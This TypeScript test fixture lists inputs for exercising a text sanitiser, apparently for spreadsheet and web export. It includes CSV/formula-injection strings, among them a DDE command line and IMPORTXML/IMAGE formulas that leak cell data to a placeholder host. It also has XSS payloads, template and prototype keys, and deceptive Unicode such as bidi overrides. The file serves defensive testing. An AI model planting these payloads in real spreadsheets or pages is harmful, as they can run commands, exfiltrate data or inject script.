/** Texts that somebody hostile, careless or merely unlucky types, pastes, sends or keeps in a file. */
const formulas = [
  "=1+1",
  '=IMPORTXML("https://example.invalid/?"&A1;"//a")',
  '=IMAGE("https://example.invalid/"&B2)',
  '=HYPERLINK("https://example.invalid";"Нажмите")',
  "=СУММ(A1:A9)",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1-1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\u0000=1+1",
  " =1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "{=1+1}",
  "'=1+1",
  "''двойной апостроф",
  '"кавычки";"и точка с запятой"',
];
const likeOthers = [
  "+79161234567",
  "8 (916) 123-45-67",
  "001",
  "1.5",
  "1,5",
  "01.02.2026",
  "2026-02-01",
  "1/2",
  "1E5",
  "5%",
  "100 ₽",
  "12:30",
  "ИСТИНА",
  "TRUE",
  "#REF",
  "-",
  "нет данных",
];
const unicode = [
  "иванов\u0438\u0306 Ё\u0435\u0308лкин",
  "e\u200d\u0301 скрытый соединитель",
  "перевёрнутый \u202eтекст\u202c и \u2066изоляты\u2069",
  "ноль\u200bширина\ufeff",
  "половина \ud83d пары",
  "половина \udc4d другой",
  "👩‍🏫 эмодзи 👍🏽 𝔘𝔫𝔦",
  "строка\u2028другая\u2029третья",
  "тег\u{e0041}\u{e007f} невидим",
  "много   \u00a0\u3000 пробелов",
  "перенос\r\nстроки",
];
const markup = [
  '<img src=x onerror="window.__hurt=1">',
  "<script>window.__hurt=1</script>",
  "</script><svg onload=window.__hurt=1>",
  '<a href="javascript:window.__hurt=1">ссылка</a>',
  "<?!= hurt ?><? hurt ?>",
  '"><iframe srcdoc="<b>x</b>"></iframe>',
  "&lt;b&gt; &amp; &#60;",
  "{{hurt}} #{hurt} %s %1$s $& $1",
  "__proto__",
  "constructor",
];

export const markupPayloads: readonly string[] = markup;
/** Each keeps some text when it is cleaned. */
export const payloads: readonly string[] = [...formulas, ...likeOthers, ...unicode, ...markup];
/** Of these nothing is left. */
export const emptyPayloads: readonly string[] = [
  "",
  " ",
  "\u0000",
  "\u200b\ufeff",
  "\u202e",
  "\t\r\n",
  "\ud83d",
  "\u00a0\u3000",
];
